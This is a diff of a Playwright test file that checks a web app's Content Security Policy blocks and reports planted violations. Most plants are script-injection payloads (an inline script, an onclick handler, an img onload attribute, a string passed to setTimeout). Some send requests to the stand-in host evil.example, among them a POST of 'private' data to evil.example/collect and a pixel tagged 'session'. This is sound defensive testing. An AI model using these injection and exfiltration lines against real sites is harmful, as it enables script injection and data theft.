@@ -1,5 +1,6 @@
 import { readdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
+import type { Page } from 'playwright/test'
 import { leadsToSources, secretsIn } from '../test/architecture/secrets.ts'
 import { expect, test } from './fixtures.ts'
 import { listenTo } from './listening.ts'
@@ -7,119 +8,143 @@ import { welcome } from './people.ts'
 
 const home = '/id/home'
 
-test.describe('planted violations', () => {
-  const plants: Readonly<Record<string, { readonly directive: RegExp; readonly plant: () => void }>> = {
-    'an inline script': {
-      directive: /^(script-src|require-trusted-types-for)/,
-      plant: () => {
-        const script = document.createElement('script')
-        script.append('globalThis.planted = true')
-        document.body.append(script)
-      },
+const plants: Readonly<Record<string, { readonly directive: RegExp; readonly plant: () => void }>> = {
+  'an inline script': {
+    directive: /^(script-src|require-trusted-types-for)/,
+    plant: () => {
+      const script = document.createElement('script')
+      script.append('globalThis.planted = true')
+      document.body.append(script)
     },
-    'a script of another host': {
-      directive: /^(script-src|require-trusted-types-for)/,
-      plant: () => {
-        const script = document.createElement('script')
-        script.src = 'https://evil.example/x.js'
-        document.body.append(script)
-      },
+  },
+  'a script of another host': {
+    directive: /^(script-src|require-trusted-types-for)/,
+    plant: () => {
+      const script = document.createElement('script')
+      script.src = 'https://evil.example/x.js'
+      document.body.append(script)
     },
-    'an inline handler': {
-      directive: /^(script-src|require-trusted-types-for)/,
-      plant: () => {
-        const button = document.createElement('button')
-        button.setAttribute('onclick', 'globalThis.planted = true')
-        document.body.append(button)
-        button.click()
-      },
+  },
+  'an inline handler': {
+    directive: /^(script-src|require-trusted-types-for)/,
+    plant: () => {
+      const button = document.createElement('button')
+      button.setAttribute('onclick', 'globalThis.planted = true')
+      document.body.append(button)
+      button.click()
     },
-    'markup as text': {
-      directive: /^(script-src|require-trusted-types-for)/,
-      plant: () => {
-        document.body.insertAdjacentHTML('beforeend', '<img src="/icon.svg" onload="globalThis.planted = true">')
-      },
+  },
+  'markup as text': {
+    directive: /^(script-src|require-trusted-types-for)/,
+    plant: () => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="/icon.svg" onload="globalThis.planted = true">')
     },
-    'text as code': {
-      directive: /^(script-src|require-trusted-types-for)/,
-      plant: () => {
-        setTimeout('globalThis.planted = true')
-      },
+  },
+  'text as code': {
+    directive: /^(script-src|require-trusted-types-for)/,
+    plant: () => {
+      setTimeout('globalThis.planted = true')
     },
-    'a picture of another host': {
-      directive: /^img-src/,
-      plant: () => {
-        new Image().src = 'https://evil.example/pixel.png?session'
-      },
+  },
+  'a picture of another host': {
+    directive: /^img-src/,
+    plant: () => {
+      new Image().src = 'https://evil.example/pixel.png?session'
     },
-    'a request to another host': {
-      directive: /^connect-src/,
-      plant: () => {
-        void fetch('https://evil.example/collect', { method: 'POST', body: 'private' }).catch(() => undefined)
-      },
+  },
+  'a request to another host': {
+    directive: /^connect-src/,
+    plant: () => {
+      void fetch('https://evil.example/collect', { method: 'POST', body: 'private' }).catch(() => undefined)
     },
-    'a frame': {
-      directive: /^(frame-src|default-src)/,
-      plant: () => {
-        const frame = document.createElement('iframe')
-        frame.src = 'https://evil.example/'
-        document.body.append(frame)
-      },
+  },
+  'a frame': {
+    directive: /^(frame-src|default-src)/,
+    plant: () => {
+      const frame = document.createElement('iframe')
+      frame.src = 'https://evil.example/'
+      document.body.append(frame)
     },
-    'a form to another host': {
-      directive: /^form-action/,
-      plant: () => {
-        const form = document.createElement('form')
-        form.action = 'https://evil.example/'
-        form.method = 'post'
-        document.body.append(form)
-        form.submit()
-      },
+  },
+  'a form to another host': {
+    directive: /^form-action/,
+    plant: () => {
+      const form = document.createElement('form')
+      form.action = 'https://evil.example/'
+      form.method = 'post'
+      document.body.append(form)
+      form.submit()
     },
-    'an inline style': {
-      directive: /^style-src/,
-      plant: () => {
-        const style = document.createElement('style')
-        style.textContent = 'body { display: none }'
-        document.head.append(style)
-      },
+  },
+  'an inline style': {
+    directive: /^style-src/,
+    plant: () => {
+      const style = document.createElement('style')
+      style.textContent = 'body { display: none }'
+      document.head.append(style)
     },
-    'another base address': {
-      directive: /^base-uri/,
-      plant: () => {
-        const base = document.createElement('base')
-        base.href = 'https://evil.example/'
-        document.head.append(base)
-      },
+  },
+  'another base address': {
+    directive: /^base-uri/,
+    plant: () => {
+      const base = document.createElement('base')
+      base.href = 'https://evil.example/'
+      document.head.append(base)
     },
-  }
+  },
+}
 
+/** A violation of the policy, as the page is notified of it. */
+interface Violation {
+  readonly violatedDirective: string
+  readonly disposition: string
+  readonly blockedURI: string
+  readonly isReported: boolean
+}
+
+const fence = 'https://evil.example/fence.png'
+
+/** Plants into the page, and returns what the page was notified of, up to a picture that is blocked after it. */
+const plantInto = async (page: Page, plant: () => void): Promise<ReadonlyArray<Violation>> => {
+  await page.evaluate(() => void Object.assign(globalThis, { violations: [] }))
+  await page.evaluate(plant).catch(() => undefined)
+  await page.evaluate((address) => void (new Image().src = address), fence)
+  const violations = () => page.evaluate<ReadonlyArray<Violation>>('globalThis.violations')
+  await expect.poll(async () => (await violations()).map(({ blockedURI }) => blockedURI)).toContain(fence)
+  return (await violations()).filter(({ blockedURI }) => blockedURI !== fence)
+}
+
+test('X4 every planted violation of the policy is blocked and reported', async ({ page, account, expectedErrors }) => {
+  expectedErrors.push(/policy|Policy|TrustedHTML|TrustedScript|foreign host: https:\/\/evil\.example/)
+  await account('verified')
+  await page.goto(home)
+  await expect(welcome(page)).toBeVisible()
+  const reached: Array<string> = []
+  page.on('response', (response) => void (response.url().includes('evil.example') && reached.push(response.url())))
+  await page.evaluate(() => {
+    addEventListener(
+      'securitypolicyviolation',
+      ({ violatedDirective, disposition, blockedURI, originalPolicy }) =>
+        void (Reflect.get(globalThis, 'violations') as Array<Violation>).push({
+          violatedDirective,
+          disposition,
+          blockedURI,
+          isReported: originalPolicy.includes('report-to csp'),
+        }),
+    )
+  })
   for (const [name, { directive, plant }] of Object.entries(plants)) {
-    test(`X4 ${name} is blocked and reported`, async ({ page, account, expectedErrors }) => {
-      expectedErrors.push(/policy|Policy|TrustedHTML|TrustedScript|foreign host: https:\/\/evil\.example/)
-      await account('verified')
-      await page.goto(home)
-      await expect(welcome(page)).toBeVisible()
-      const reached: Array<string> = []
-      page.on('response', (response) => void (response.url().includes('evil.example') && reached.push(response.url())))
-      await page.evaluate(() => {
-        const seen: Array<string> = []
-        Object.assign(globalThis, { seen })
-        addEventListener('securitypolicyviolation', ({ violatedDirective, disposition, originalPolicy }) => {
-          seen.push(`${violatedDirective} ${disposition} ${/report-to csp/.exec(originalPolicy)?.[0]}`)
-        })
-      })
-      await page.evaluate(plant).catch(() => undefined)
-      await expect.poll(() => page.evaluate<ReadonlyArray<string>>('globalThis.seen')).not.toEqual([])
-      const [first = ''] = await page.evaluate<ReadonlyArray<string>>('globalThis.seen')
-      expect(first).toMatch(directive)
+    await test.step(name, async () => {
+      const violations = await plantInto(page, plant)
+      expect(violations, name).not.toEqual([])
+      expect(violations[0]?.violatedDirective, name).toMatch(directive)
       // The browser sends its reports when it likes, and does not show them here.
-      expect(first).toMatch(/ enforce report-to csp$/)
-      expect(await page.evaluate('globalThis.planted')).toBeUndefined()
-      expect(reached).toEqual([])
+      for (const violation of violations) expect(violation).toMatchObject({ disposition: 'enforce', isReported: true })
+      expect(await page.evaluate('globalThis.planted'), name).toBeUndefined()
       expect(await page.evaluate(() => document.querySelector('h1')?.textContent)).toMatch(/^Welcome/)
     })
   }
+  expect(reached).toEqual([])
 })
 
 test('X3 X12 an error, a violation of the policy and a foreign host are heard', async ({
